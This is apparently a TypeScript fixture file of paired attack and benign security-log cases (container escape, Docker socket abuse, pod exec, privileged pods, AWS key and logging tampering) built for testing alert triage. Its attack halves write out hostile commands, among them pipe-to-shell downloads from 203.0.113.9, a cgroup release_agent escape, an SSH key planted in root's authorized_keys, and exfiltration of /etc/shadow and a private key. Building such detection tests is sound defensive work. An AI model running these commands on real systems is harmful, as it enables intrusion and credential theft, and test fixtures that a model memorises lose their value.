// Pairs in containers, clusters and clouds: here the logs themselves must tell.
// long because: pairs of cases as data, read side by side
import type { Pair } from '../case-shape.ts'
import { at, cloudTrail, earlier, k8s, month, packed, tetragon, trail } from '../records.ts'

const lines = (...list: string[]): string => `${list.join('\n')}\n`
const attacker = { ip: '203.0.113.50', agent: 'python-requests/2.31' }
const key = 'AKIAEXAMPLEKEY000001'

export const otherPairs: Pair[] = [
  {
    name: 'container-escape',
    layer: 'container',
    attack: {
      alert: {
        'tetragon.jsonl': lines(
          tetragon({ time: at('10:00:00'), binary: '/usr/bin/nsenter', args: '-t 1 -m -u -n -i sh', parent: '/bin/sh', host: 'node-1' }),
        ),
      },
      package: packed({
        rule: 'Namespace of the host entered',
        level: 'critical',
        tactic: 'privilege-escalation',
        command: 'nsenter -t 1 -m -u -n -i sh',
        host: 'node-1',
        processes: { 4242: 'nsenter -t 1 -m -u -n -i sh' },
        files: {
          'process/4243-4243000/script-later':
            '#!/bin/sh\nmkdir /tmp/cg; mount -t cgroup -o rdma cgroup /tmp/cg\necho 1 > /tmp/cg/x/notify_on_release\necho "$host_path/cmd" > /tmp/cg/release_agent\nchroot /host sh -c "curl http://203.0.113.9/n | sh"\n',
          'process/4242-4242000/status': 'Name:\tsh\nNSpid:\t4242\t7\nCapEff:\t000001ffffffffff\nSeccomp:\t0\n',
        },
      }),
    },
    benign: {
      alert: {
        'tetragon.jsonl': lines(
          tetragon({ time: at('10:00:00'), binary: '/usr/bin/nsenter', args: '-t 1 -m -u -n -i sh', parent: '/bin/sh', host: 'node-1' }),
        ),
      },
      tickets: 'CHG-2001: nsenter on node-1 by the platform team to look at a full disk\n',
      package: packed({
        rule: 'Namespace of the host entered',
        level: 'critical',
        tactic: 'privilege-escalation',
        command: 'nsenter -t 1 -m -u -n -i sh',
        host: 'node-1',
        processes: { 4259: 'sh /usr/local/bin/disk-report.sh' },
        files: { 'process/4259-4259000/script-argument': '#!/bin/sh\ndf -h\ndu -x -d1 /var\nlsblk\nfind /var/log -size +100M\n' },
      }),
    },
  },
  {
    name: 'docker-socket',
    layer: 'container',
    attack: {
      alert: {
        'tetragon.jsonl': lines(
          tetragon({
            time: at('10:00:00'),
            binary: '/usr/bin/curl',
            args: '--unix-socket /var/run/docker.sock http://localhost/containers/create',
            parent: '/bin/sh',
            host: 'node-1',
          }),
        ),
      },
      package: packed({
        rule: 'Container engine used through its socket',
        tactic: 'privilege-escalation',
        command: 'curl --unix-socket /var/run/docker.sock',
        host: 'node-1',
        processes: {
          4242: 'curl --unix-socket /var/run/docker.sock -d {"HostConfig":{"Privileged":true,"Binds":["/:/host"]}} http://localhost/containers/create',
        },
        files: {
          'files/root/.ash_history':
            'id\ncat /proc/1/cgroup\ncurl --unix-socket /var/run/docker.sock http://localhost/containers/json\ndocker -H unix:///var/run/docker.sock run --privileged -v /:/host alpine chroot /host sh\necho key >> /host/root/.ssh/authorized_keys\n',
        },
      }),
    },
    benign: {
      alert: {
        'tetragon.jsonl': lines(
          ...Array.from({ length: 14 }, (_, i) =>
            tetragon({
              time: at('10:00:00', earlier(i + 1)),
              binary: '/usr/bin/docker',
              args: '-H unix:///var/run/docker.sock ps',
              parent: '/usr/bin/watchtower',
              host: 'node-1',
            }),
          ),
          tetragon({
            time: at('10:00:00'),
            binary: '/usr/bin/docker',
            args: '-H unix:///var/run/docker.sock ps',
            parent: '/usr/bin/watchtower',
            host: 'node-1',
          }),
        ),
      },
      package: packed({
        rule: 'Container engine used through its socket',
        tactic: 'privilege-escalation',
        command: 'docker -H unix:///var/run/docker.sock ps',
        host: 'node-1',
        processes: { 4260: 'sh /etc/periodic/report.sh' },
        files: { 'process/4260-4260000/script-argument': '#!/bin/sh\nuptime\ndf -h /var/lib\nps aux | head -20\n' },
      }),
    },
  },
  {
    name: 'key-for-other',
    layer: 'cloud',
    attack: {
      alert: {
        'trail.json': trail([
          ...month('deploy', key, '192.0.2.10'),
          cloudTrail({ time: '10:00:00', name: 'GetCallerIdentity', source: 'sts', ...attacker }),
          cloudTrail({ time: '10:01:00', name: 'CreateAccessKey', source: 'iam', request: { userName: 'backup' }, ...attacker }),
          cloudTrail({
            time: '10:02:00',
            name: 'AttachUserPolicy',
            source: 'iam',
            request: { userName: 'backup', policyArn: 'arn:aws:iam::aws:policy/AdministratorAccess' },
            ...attacker,
          }),
          cloudTrail({ time: '10:04:00', name: 'StopLogging', source: 'cloudtrail', request: { name: 'org' }, ...attacker }),
          ...Array.from({ length: 14 }, (_, i) =>
            cloudTrail({
              time: `10:05:${10 + i}`,
              name: 'GetSecretValue',
              source: 'secretsmanager',
              request: { secretId: `prod/s${i}` },
              ...attacker,
            }),
          ),
          cloudTrail({
            time: '10:07:00',
            name: 'ModifySnapshotAttribute',
            source: 'ec2',
            request: {
              snapshotId: 'snap-1',
              attributeType: 'CREATE_VOLUME_PERMISSION',
              createVolumePermission: { add: { items: [{ userId: '999988887777' }] } },
            },
            ...attacker,
          }),
        ]),
      },
    },
    benign: {
      alert: {
        'trail.json': trail([
          ...month('deploy', key, '192.0.2.10'),
          cloudTrail({ time: '10:01:00', name: 'CreateAccessKey', source: 'iam', request: { userName: 'backup' } }),
        ]),
      },
      tickets: 'CHG-3001: deploy rotates the key of backup (CreateAccessKey) on 2 March\n',
    },
  },
  {
    name: 'trail-stopped',
    layer: 'cloud',
    attack: {
      alert: {
        'trail.json': trail([
          ...month('ops', 'AKIAEXAMPLEKEY000002', '192.0.2.20'),
          cloudTrail({
            time: '11:00:00',
            name: 'StopLogging',
            source: 'cloudtrail',
            request: { name: 'org' },
            user: 'ops',
            key: 'AKIAEXAMPLEKEY000002',
            ...attacker,
          }),
          cloudTrail({
            time: '11:01:00',
            name: 'DeleteDetector',
            source: 'guardduty',
            request: { detectorId: 'd' },
            user: 'ops',
            key: 'AKIAEXAMPLEKEY000002',
            ...attacker,
          }),
          cloudTrail({
            time: '11:02:00',
            name: 'CreateUser',
            source: 'iam',
            request: { userName: 'svc-2' },
            user: 'ops',
            key: 'AKIAEXAMPLEKEY000002',
            ...attacker,
          }),
          cloudTrail({
            time: '11:02:20',
            name: 'CreateAccessKey',
            source: 'iam',
            request: { userName: 'svc-2' },
            user: 'ops',
            key: 'AKIAEXAMPLEKEY000002',
            ...attacker,
          }),
          cloudTrail({
            time: '11:02:40',
            name: 'AttachUserPolicy',
            source: 'iam',
            request: { userName: 'svc-2', policyArn: 'arn:aws:iam::aws:policy/AdministratorAccess' },
            user: 'ops',
            key: 'AKIAEXAMPLEKEY000002',
            ...attacker,
          }),
          ...Array.from({ length: 12 }, (_, i) =>
            cloudTrail({
              time: `11:03:${10 + i}`,
              name: 'GetSecretValue',
              source: 'secretsmanager',
              request: { secretId: `prod/t${i}` },
              user: 'ops',
              key: 'AKIAEXAMPLEKEY000002',
              ...attacker,
            }),
          ),
        ]),
      },
    },
    benign: {
      alert: {
        'trail.json': trail([
          ...month('ops', 'AKIAEXAMPLEKEY000002', '192.0.2.20'),
          cloudTrail({
            time: '11:00:00',
            name: 'StopLogging',
            source: 'cloudtrail',
            request: { name: 'old' },
            user: 'ops',
            key: 'AKIAEXAMPLEKEY000002',
            ip: '192.0.2.20',
          }),
        ]),
      },
      tickets: 'CHG-3002: ops retires the old trail with StopLogging\n',
      administrators: 'ops\n',
    },
  },
  {
    name: 'secrets-read',
    layer: 'cloud',
    attack: {
      alert: {
        'trail.json': trail([
          ...month('ci', 'AKIAEXAMPLEKEY000003', '192.0.2.30'),
          ...Array.from({ length: 15 }, (_, i) =>
            cloudTrail({
              time: `12:00:${10 + i}`,
              name: 'GetSecretValue',
              source: 'secretsmanager',
              request: { secretId: `prod/u${i}` },
              user: 'ci',
              key: 'AKIAEXAMPLEKEY000003',
              ...attacker,
            }),
          ),
          cloudTrail({
            time: '12:02:00',
            name: 'CreateAccessKey',
            source: 'iam',
            request: { userName: 'root-backup' },
            user: 'ci',
            key: 'AKIAEXAMPLEKEY000003',
            ...attacker,
          }),
          cloudTrail({
            time: '12:03:00',
            name: 'DeleteTrail',
            source: 'cloudtrail',
            request: { name: 'org' },
            user: 'ci',
            key: 'AKIAEXAMPLEKEY000003',
            ...attacker,
          }),
          cloudTrail({
            time: '12:04:00',
            name: 'DeleteDetector',
            source: 'guardduty',
            request: { detectorId: 'd' },
            user: 'ci',
            key: 'AKIAEXAMPLEKEY000003',
            ...attacker,
          }),
        ]),
      },
    },
    benign: {
      alert: {
        'trail.json': trail([
          ...month('ci', 'AKIAEXAMPLEKEY000003', '192.0.2.30', 'GetSecretValue', 'secretsmanager'),
          ...Array.from({ length: 15 }, (_, i) =>
            cloudTrail({
              time: `12:00:${10 + i}`,
              name: 'GetSecretValue',
              source: 'secretsmanager',
              request: { secretId: `prod/u${i}` },
              user: 'ci',
              key: 'AKIAEXAMPLEKEY000003',
              ip: '192.0.2.30',
            }),
          ),
        ]),
      },
      tickets: 'Release: ci reads its secrets (GetSecretValue) at each start\n',
    },
  },
  {
    name: 'snapshot-shared',
    layer: 'cloud',
    attack: {
      alert: {
        'trail.json': trail([
          ...month('deploy', key, '192.0.2.10'),
          cloudTrail({ time: '13:00:00', name: 'CreateSnapshot', source: 'ec2', request: { volumeId: 'vol-1' }, ...attacker }),
          cloudTrail({
            time: '13:02:00',
            name: 'ModifySnapshotAttribute',
            source: 'ec2',
            request: {
              snapshotId: 'snap-2',
              attributeType: 'CREATE_VOLUME_PERMISSION',
              createVolumePermission: { add: { items: [{ group: 'all' }] } },
            },
            ...attacker,
          }),
          cloudTrail({ time: '13:03:00', name: 'CreateAccessKey', source: 'iam', request: { userName: 'backup' }, ...attacker }),
          cloudTrail({ time: '13:04:00', name: 'StopLogging', source: 'cloudtrail', request: { name: 'org' }, ...attacker }),
        ]),
      },
    },
    benign: {
      alert: {
        'trail.json': trail([
          ...month('deploy', key, '192.0.2.10'),
          cloudTrail({ time: '13:00:00', name: 'CreateSnapshot', source: 'ec2', request: { volumeId: 'vol-1' } }),
          cloudTrail({
            time: '13:02:00',
            name: 'ModifySnapshotAttribute',
            source: 'ec2',
            request: {
              snapshotId: 'snap-2',
              attributeType: 'CREATE_VOLUME_PERMISSION',
              createVolumePermission: { add: { items: [{ userId: '444455556666' }] } },
            },
          }),
        ]),
      },
      tickets: 'CHG-3003: deploy shares snapshot snap-2 with the recovery account (ModifySnapshotAttribute)\n',
    },
  },
  {
    name: 'pod-exec',
    layer: 'cluster',
    attack: {
      alert: {
        'audit.jsonl': lines(
          k8s('10:00:00', 'create', 'dev@example.com', 'pods', {
            sub: 'exec',
            uri: '/api/v1/namespaces/shop/pods/web-1/exec?command=cat&command=%2Fvar%2Frun%2Fsecrets%2Fkubernetes.io%2Fserviceaccount%2Ftoken',
            ip: '203.0.113.50',
          }),
          k8s('10:01:00', 'list', 'system:serviceaccount:shop:web', 'secrets', { uri: '/api/v1/secrets', ip: '203.0.113.50' }),
          k8s('10:02:00', 'create', 'system:serviceaccount:shop:web', 'clusterrolebindings', {
            body: { roleRef: { name: 'cluster-admin', kind: 'ClusterRole' }, subjects: [{ kind: 'ServiceAccount', name: 'web' }] },
            ip: '203.0.113.50',
          }),
          k8s('10:03:00', 'create', 'system:serviceaccount:shop:web', 'pods', {
            name: 'n',
            body: {
              kind: 'Pod',
              spec: { hostPID: true, containers: [{ securityContext: { privileged: true } }], volumes: [{ hostPath: { path: '/' } }] },
            },
            ip: '203.0.113.50',
          }),
        ),
      },
      package: packed({
        rule: 'Token of the workload read',
        command: 'cat /var/run/secrets/kubernetes.io/serviceaccount/token',
        host: 'web-1',
        tactic: 'credential-access',
        processes: { 4242: 'cat /var/run/secrets/kubernetes.io/serviceaccount/token' },
        files: {
          'files/root/.bash_history':
            'id\nuname -a\nenv\ncat /var/run/secrets/kubernetes.io/serviceaccount/token\nkubectl auth can-i --list\nkubectl get secrets -A\ncurl http://203.0.113.9/k | sh\n',
        },
      }),
    },
    benign: {
      alert: {
        'audit.jsonl': lines(
          k8s('10:00:00', 'create', 'dev@example.com', 'pods', {
            sub: 'exec',
            uri: '/api/v1/namespaces/shop/pods/web-1/exec?command=ls&command=%2Fvar%2Frun%2Fsecrets%2Fkubernetes.io%2Fserviceaccount',
          }),
        ),
      },
      tickets: 'Debugging of web-1 by dev@example.com (exec) as agreed\n',
      package: packed({
        rule: 'Token of the workload read',
        command: 'ls /var/run/secrets/kubernetes.io/serviceaccount',
        host: 'web-1',
        tactic: 'credential-access',
        processes: { 4242: 'ls /var/run/secrets/kubernetes.io/serviceaccount', 4261: 'sh /tmp/look.sh' },
        files: { 'process/4261-4261000/script-argument': '#!/bin/sh\nls -l /var/run\ndf -h\nps aux\n' },
      }),
    },
  },
  {
    name: 'privileged-pod',
    layer: 'cluster',
    attack: {
      alert: {
        'audit.jsonl': lines(
          k8s('10:00:00', 'create', 'system:serviceaccount:shop:ci', 'pods', {
            name: 'x',
            body: {
              kind: 'Pod',
              spec: {
                hostPID: true,
                hostNetwork: true,
                containers: [{ securityContext: { privileged: true } }],
                volumes: [{ hostPath: { path: '/' } }],
              },
            },
            ip: '203.0.113.50',
          }),
          k8s('10:00:20', 'create', 'system:serviceaccount:shop:ci', 'pods', {
            sub: 'exec',
            name: 'x',
            uri: '/api/v1/namespaces/shop/pods/x/exec?command=chroot&command=%2Fhost',
            ip: '203.0.113.50',
          }),
        ),
      },
      package: packed({
        rule: 'Way out of the container',
        level: 'critical',
        tactic: 'privilege-escalation',
        command: 'chroot /host sh',
        host: 'node-2',
        processes: {
          4242: 'chroot /host sh',
          4262: 'sh -c cat /host/etc/shadow /host/root/.ssh/id_rsa | curl --data-binary @- http://203.0.113.9/',
        },
        files: { 'process/4242-4242000/status': 'Name:\tsh\nNSpid:\t4242\t7\nCapEff:\t000001ffffffffff\n' },
      }),
    },
    benign: {
      alert: {
        'audit.jsonl': lines(
          k8s('10:00:00', 'create', 'platform@example.com', 'daemonsets', {
            name: 'node-exporter',
            body: { kind: 'DaemonSet', spec: { template: { spec: { containers: [{ securityContext: { privileged: true } }] } } } },
          }),
        ),
      },
      tickets: 'CHG-2002: platform@example.com rolls out node-exporter\n',
      administrators: 'platform@example.com\n',
      package: packed({
        rule: 'Way out of the container',
        level: 'critical',
        tactic: 'privilege-escalation',
        command: 'node_exporter',
        host: 'node-2',
        processes: { 4262: 'sh /etc/start.sh' },
        files: { 'process/4262-4262000/script-argument': '#!/bin/sh\nuptime\ndf -h\nlsblk\n' },
      }),
    },
  },
]
